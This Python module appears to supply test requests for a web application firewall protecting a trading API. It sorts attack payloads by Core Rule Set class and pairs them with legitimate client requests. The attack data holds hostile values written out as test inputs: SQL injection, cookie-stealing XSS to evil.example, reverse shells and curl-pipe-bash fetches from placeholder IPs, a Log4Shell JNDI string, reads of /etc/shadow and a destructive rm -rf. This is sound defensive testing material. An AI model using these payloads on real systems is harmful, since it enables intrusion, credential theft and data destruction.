"""Requests of attackers, by the classes of the Core Rule Set, and requests of legitimate clients of the API.

The test replaces `{}` in a target by a path.
"""

from dataclasses import dataclass, field
from urllib.parse import quote


@dataclass(frozen=True)
class Request:
    """A request as sent over the wire; `headers` replace those of an ordinary client."""

    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: str = ""


def _in_parameters(*values: str) -> list[Request]:
    """Return a GET with each value as a parameter."""
    return [Request("GET", f"{{}}?q={quote(value)}") for value in values]


def _in_json(*values: str) -> list[Request]:
    """Return a POST with each value in a JSON document."""
    documents = [value.replace("\\", "\\\\").replace('"', '\\"') for value in values]
    return [
        Request("POST", "{}", {"Content-Type": "application/json"}, f'{{"symbol": "AAPL", "note": "{document}"}}')
        for document in documents
    ]


def _in_form(*values: str) -> list[Request]:
    """Return a POST with each value in a form."""
    return [
        Request("POST", "{}", {"Content-Type": "application/x-www-form-urlencoded"}, f"name=x&text={quote(value)}")
        for value in values
    ]


ATTACKS = {
    "SQL injection": [
        *_in_parameters(
            "1' OR '1'='1",
            "7 UNION ALL SELECT trader, hash FROM api_keys--",
            "1; DROP TABLE orders--",
            "1' AND sleep(9)#",
            "x' AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)--",
            "1 AND extractvalue(1, concat(0x7e, version()))",
            "-1' UNION/**/SELECT/**/NULL,NULL,table_name/**/FROM/**/information_schema.tables--",
            "admin'--",
            "1' || pg_sleep(7)--",
            "0x31 OR 2>1 HAVING 1=1",
        ),
        *_in_json("x' OR 'a'='a' --", "'; INSERT INTO orders VALUES (1); --", "1' UNION SELECT password FROM users --"),
        *_in_form("1' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -", "' or 1=1 limit 1 -- "),
        Request("GET", "{}", {"Cookie": "tradefleet_client=1' UNION SELECT 1,2,3--"}),
        Request("GET", "{}", {"User-Agent": "x' OR 1=1 UNION SELECT NULL, current_user--"}),
    ],
    "cross-site scripting": [
        *_in_parameters(
            "<script>fetch('//evil.example/'+document.cookie)</script>",
            '"><img src=x onerror=alert(7)>',
            "<svg/onload=prompt(1)>",
            "javascript:alert(document.domain)",
            "<iframe src='javascript:confirm(1)'></iframe>",
            "<body onload=alert`1`>",
            "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
            "<details open ontoggle=eval(name)>",
            "<math><mtext></form><form><style></math><img src onerror=alert(1)>",
            "'-alert(1)-'<script>",
        ),
        *_in_json("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
        *_in_form("<input autofocus onfocus=alert(1)>", "<object data='javascript:alert(1)'>"),
        Request("GET", "{}", {"Referer": "https://tradefleet.test/<script>alert(1)</script>"}),
        Request("GET", "{}", {"User-Agent": "<script>alert('agent')</script>"}),
    ],
    "files of the host": [
        *_in_parameters(
            "../../../../etc/passwd",
            "....//....//....//etc/shadow",
            "..\\..\\..\\windows\\win.ini",
            "/etc/ssh/sshd_config",
            "/proc/self/environ",
            "..%2f..%2f..%2fetc%2fgroup",
            "file=../../../var/log/auth.log",
            "/root/.bash_history",
        ),
        Request("GET", "{}.git/config"),
        Request("GET", "{}.env"),
        Request("GET", "{}.htpasswd"),
        *_in_json("../../../../etc/passwd"),
    ],
    "files of others": [
        *_in_parameters(
            "http://198.51.100.7/shell.txt?",
            "ftp://203.0.113.9/x.php?",
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/hosts",
        ),
        Request("GET", "{}?page=http://192.0.2.44/evil.txt"),
    ],
    "commands": [
        *_in_parameters(
            "; cat /etc/passwd",
            "| nc -e /bin/sh 198.51.100.7 4444",
            "`wget http://198.51.100.7/x -O /tmp/x`",
            "$(curl 198.51.100.7|bash)",
            "&& ping -c 9 198.51.100.7",
            "; rm -rf /var/lib",
            "|/bin/bash -i >& /dev/tcp/198.51.100.7/99 0>&1",
            "& powershell -enc SQBFAFgA",
            "& cmd.exe /c dir c:\\",
            "() { :; }; /bin/id",
            "${IFS}/bin/cat${IFS}/etc/passwd",
        ),
        *_in_json("; /usr/bin/id; uname -a", "$(/bin/cat /etc/shadow)"),
        *_in_form("x; python3 -c 'import os'", "|| /usr/bin/whoami"),
        Request("GET", "{}", {"User-Agent": "() { ignored; }; echo; /bin/cat /etc/passwd"}),
    ],
    "code for the server": [
        *_in_parameters(
            "<?php system($_GET['c']); ?>",
            "<?= phpinfo(); ?>",
            "base64_decode('c3lzdGVt')($_POST[0])",
            "require('child_process').exec('id')",
            "process.binding('spawn_sync')",
            "_$$ND_FUNC$$_function(){return 1}()",
            "${jndi:ldap://198.51.100.7/a}",
            "java.lang.Runtime.getRuntime().exec('id')",
            "${(#a=@java.lang.Runtime@getRuntime())}",
        ),
        *_in_json("${jndi:ldap://198.51.100.7/a}", 'O:8:\\"stdClass\\":0:{}<?php eval($_GET[1]); ?>'),
        Request("GET", "{}", {"User-Agent": "${jndi:ldap://198.51.100.7/agent}"}),
    ],
    "sessions": [
        *_in_parameters("<script>document.cookie='session=1'</script>", "<meta http-equiv=Set-Cookie content=a=1>"),
        Request("GET", "{}?q=.cookie%20;domain=evil.example"),
    ],
    "protocol": [
        Request("GET", "{}", {"Content-Length": "5"}, "hello"),
        Request("TRACE", "{}"),
        Request("PROPFIND", "{}"),
        Request("GET", "{}?q=a%00b"),
        Request("GET", "{}?q=a%0d%0aSet-Cookie:%20x=1"),
        Request("GET", "{}?q=x%0d%0aHTTP/1.1%20200%20OK"),
        Request("POST", "{}", {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": "abc"}),
        Request("GET", "{}", {"Range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"}),
        Request("POST", "{}", {"Content-Type": "text/x-unheard-of"}, "a"),
        Request("POST", "{}", {"Transfer-Encoding": "chunked", "Content-Length": "4"}, "0\r\n\r\n"),
        Request("POST", "{}", {"Content-Type": "application/json"}, '{"symbol": "AAPL", '),
        Request("GET", "{}backup.sql.bak"),
        Request("GET", "{}", {"Host": ""}),
        Request("GET", "{}?q=%GG%1"),
    ],
    "scanners": [
        Request("GET", "{}", {"User-Agent": "sqlmap/1.8"}),
        Request("GET", "{}", {"User-Agent": "Nikto/2.5"}),
        Request("GET", "{}", {"User-Agent": "masscan/1.3"}),
        Request("GET", "{}", {"User-Agent": "Nmap Scripting Engine"}),
        Request("GET", "{}", {"User-Agent": "w3af.org"}),
    ],
}

KEY = {"Authorization": "Bearer 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}
JSON = {"Content-Type": "application/json"} | KEY


def _order(**fields: str) -> Request:
    inside = ", ".join(f'"{name}": "{value}"' for name, value in fields.items())
    return Request(
        "POST", "/v1/orders", JSON | {"Idempotency-Key": "5f0c9a52-7c1e-4f4e-9b8e-5f6a1f0e2d11"}, f"{{{inside}}}"
    )


# Requests from the API's documentation and its tests, with valid and invalid orders, which the application must judge.
HONEST = [
    Request("GET", "/"),
    Request("GET", "/healthz"),
    Request("GET", "/openapi.json"),
    Request("GET", "/v1/instruments"),
    Request("GET", "/static/site.71adfceada8a.css"),
    Request("GET", "/v1/orders", KEY),
    Request("GET", "/v1/orders?limit=50&before=01920f6e-7b1a-7c3d-8e5f-6a7b8c9d0e1f", KEY),
    Request("GET", "/v1/orders/01920f6e-7b1a-7c3d-8e5f-6a7b8c9d0e1f", KEY | {"If-None-Match": '"5f0c9a52"'}),
    _order(symbol="AAPL", side="buy", type="limit", quantity="1.5", limit_price="180.25"),
    _order(symbol="BRK.B", side="sell", type="market", quantity="1000000"),
    _order(symbol="ÅÄÖ", side="buy", type="limit", quantity="-1", limit_price="1e400"),
    _order(symbol="SELECT", side="union", type="limit or market", quantity="0x10", limit_price="NaN"),
    _order(symbol="O'NEIL", side="buy", type="limit", quantity="1,5", limit_price="$180.25"),
    Request("POST", "/v1/orders", JSON, "[]"),
    Request("POST", "/v1/orders", JSON, '{"quantity": null, "nested": {"a": [1, 2.5, true]}}'),
    Request(
        "GET", "/", {"Cookie": "tradefleet_client=5f0c9a527c1e4f4e9b8e5f6a1f0e2d11", "Accept-Language": "de, en;q=0.7"}
    ),
    Request("GET", "/", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"}),
    Request("GET", "/v1/orders", KEY | {"User-Agent": "python-requests/2.32.3"}),
    Request(
        "GET",
        "/v1/orders",
        KEY | {"User-Agent": "curl/8.14.1", "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
    ),
]
